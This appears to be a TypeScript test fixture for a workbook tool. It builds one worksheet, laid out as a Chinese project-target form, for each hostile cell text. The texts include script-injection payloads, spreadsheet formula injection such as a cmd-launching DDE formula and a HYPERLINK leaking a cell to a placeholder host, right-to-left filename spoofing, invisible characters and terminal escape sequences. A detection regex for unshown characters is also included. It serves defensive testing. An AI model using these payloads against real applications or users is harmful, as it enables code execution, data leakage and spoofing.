import type { CellContent, Grid, Workbook } from '../../src/core/model/grid';
import { FORM_HEADER } from './form-header';

/** What somebody might put into a cell to have something run, or to have a reader see what is not there. */
export const HOSTILE: readonly (readonly [name: string, text: string])[] = [
  ['an image that fails', '<img src=x onerror="window.hit=1">'],
  ['the end of a script', '</script><script>window.hit=1</script>'],
  ['the end of a title and a style', '</title></style><svg onload=window.hit=1>'],
  ['the end of a comment', '--><iframe srcdoc="<script>parent.hit=1</script>"></iframe>'],
  ['the end of a CDATA section', ']]></t></is></c><c t="str"><f>1+1</f></c><![CDATA['],
  ['the end of an attribute', '"\'><b onmouseover=window.hit=1 autofocus tabindex=0>'],
  ['entities', '&lt;img src=x onerror=window.hit=1&gt; &#60;b&#62; &amp;lt; &#x202e; &nosuch; &'],
  ['an escape of Excel', '_x003C_f_x003E_ _x0000_ _x202E_'],
  ['a link that runs', 'javascript:window.hit=1'],
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].map(
    (sign) => [`formula ${sign}`, `${sign}1+cmd|' /C calc'!A0`] as const,
  ),
  ['formula HYPERLINK', '=HYPERLINK("http://example.invalid/"&A1,"点这里")'],
  ['formula behind a tab', '\t=1+1'],
  ['formula behind a return', '\r=1+1'],
  ['formula behind a line break', '\n=1+1\n@SUM(1)'],
  ['formula behind blanks', '  \u3000=1+1'],
  ['formula behind a quote', '"=1+1'],
  ['formula behind an apostrophe', "'=1+1"],
  ['formula behind an unseen character', '\ufeff\u200b=1+1'],
  ...[0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c].map(
    (code) => [`direction U+${code.toString(16)}`, `完成${String.fromCharCode(code)}gpj.exe率`] as const,
  ),
  ...[0x200b, 0x200c, 0x200d, 0x2060, 0x2064, 0x206a, 0xfeff, 0x00ad, 0x180e, 0x3164, 0x115f].map(
    (code) => [`unseen U+${code.toString(16)}`, `数${String.fromCharCode(code)}量`] as const,
  ),
  ['tags', `量${String.fromCodePoint(0xe0041, 0xe007f)}词`],
  ['a colour of the terminal', '\u001b[31m红\u001b[0m\u001b[2J\u001b[1;1H'],
  ['a title of the terminal', '\u001b]0;owned\u0007\u001b]8;;http://example.invalid\u0007x\u001b]8;;\u0007'],
  ['commands in one character', '\u009b31m\u0090q\u009c\u0085\u008d'],
  ['rubbing out', '真\b假\u007f\u0000\u0001\u0008\u000b\u000c\u000e\u001f'],
  ['over the line', '错误\r通过  '],
  ['separators of lines', '甲\u2028乙\u2029丙'],
  ['half of a character', '半\ud83d个\udc00'],
  ['no characters', '无\ufffe\uffff\ufffb'],
  ['a very long text', '长文字'.repeat(11_000)],
  ['a character at the edge of a cell', `${'边'.repeat(32_766)}\u{20bb7}\u{20bb7}`],
];

/** What no output for people may hold: commands, what hides and what turns around, and what is no character. */
export const UNSHOWN =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u061c\u115f\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\ufff9-\ufffb\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]|\udb40[\udc00-\udc7f]/;

/** What of a text is unshown, to name it where a test fails. */
export const unshownIn = (text: string): string[] => {
  const found = UNSHOWN.exec(text);
  return found === null
    ? []
    : [
        `${found[0].codePointAt(0)!.toString(16)} in ${JSON.stringify(text.slice(Math.max(0, found.index - 30), found.index + 30))}`,
      ];
};

const HEADER = [...FORM_HEADER, '全年实际值', '得分', '偏差原因'];

/** A declaration of one worksheet, which bears the text in its name and wherever a form has room for one. */
export function hostileRows(text: string): string[][] {
  const rule = '完成12个得满分，共计20分，每少1个扣1分，扣完为止';
  return [
    [`项目支出绩效目标申报表${text}`],
    ['项目名称', text, '', '预算部门', text],
    ['年度目标', `目标1：${text}；目标2：验收验收${text}12个`],
    HEADER,
    ['产出指标', '数量指标', text, '≥', '12', '个', text, rule, '20', text, '20', text],
    [
      '产出指标',
      '质量指标',
      `合格率${text}`,
      '≥',
      `尽快${text}`,
      text,
      '',
      `${text}得满分，共计20分，${text}不得分`,
      text,
      '90',
      text,
      '',
    ],
    [text, text, '按时完成', text, text, '个', text, text, '20', '12', '', ''],
    [
      '效益指标',
      '社会效益指标',
      `群众受益${text}`,
      '定性',
      text,
      text,
      text,
      `${text}得满分，${text}得10分`,
      '20',
      text,
      '',
      '',
    ],
    ['满意度指标', '服务对象满意度指标', '满意度', '≥', '90', '%', '', rule, '20', '95', '', ''],
    ['注', `定量指标得分按完成比例计分${text}`],
  ];
}

const cellOf = (text: string): CellContent | undefined =>
  text === '' ? undefined : { text, value: /^\d+$/.test(text) ? Number(text) : text };

/** One worksheet for each hostile text, named by it. */
export function hostileWorkbook(): Workbook {
  return {
    grids: HOSTILE.map(([name, text]): Grid => ({
      name: `${text.slice(0, 200)} ${name}`,
      rows: hostileRows(text).map((row) => row.map(cellOf)),
      merges: [],
    })),
  };
}
